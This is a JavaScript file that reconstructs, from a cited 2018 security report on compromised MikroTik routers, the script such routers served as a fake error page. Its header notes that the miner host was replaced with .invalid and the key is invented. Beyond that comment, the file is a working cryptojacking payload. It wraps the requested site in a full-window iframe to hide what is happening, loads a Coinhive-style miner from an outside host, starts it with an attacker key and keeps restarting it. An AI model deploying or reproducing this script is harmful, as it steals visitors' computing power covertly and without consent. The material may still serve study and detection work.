// mikrotik-miner, written from Trustwave SpiderLabs (Simon Kenin), "CoinHive Mining via MikroTik
// routers" (2018), and the follow-up reports on compromised MikroTik routers (CVE-2018-14847):
// the routers' web proxy was set to answer with a custom "error" page for every HTTP request;
// that page shows the site the visitor asked for in a full-window iframe so nothing looks wrong,
// and runs a Coinhive-style miner with the attacker's key in the outer page (library host
// replaced by .invalid, key made up). This is the error page's script.
(function () {
  var target = location.href;
  document.title = document.title || location.hostname;
  document.documentElement.style.cssText = "margin:0;padding:0;height:100%;overflow:hidden";
  document.body.style.cssText = "margin:0;padding:0;height:100%;overflow:hidden";
  var fr = document.createElement("iframe");
  fr.src = target + (target.indexOf("?") > -1 ? "&" : "?") + "_mt=" + Date.now();
  fr.setAttribute("frameborder", "0");
  fr.style.cssText = "position:fixed;top:0;left:0;width:100%;height:100%;border:0";
  document.body.appendChild(fr);
  var lib = document.createElement("script");
  lib.src = "http://coinhive-mirror.invalid/lib/coinhive.min.js";
  lib.onload = function () {
    var m = new CoinHive.Anonymous("hsFAjjijTyibpVjCmfJzlfWH3hFqWVT3", { throttle: 0.2 });
    m.start(CoinHive.IF_EXCLUSIVE_TAB);
    setInterval(function () { if (!m.isRunning()) m.start(); }, 30000);
  };
  document.body.appendChild(lib);
})();
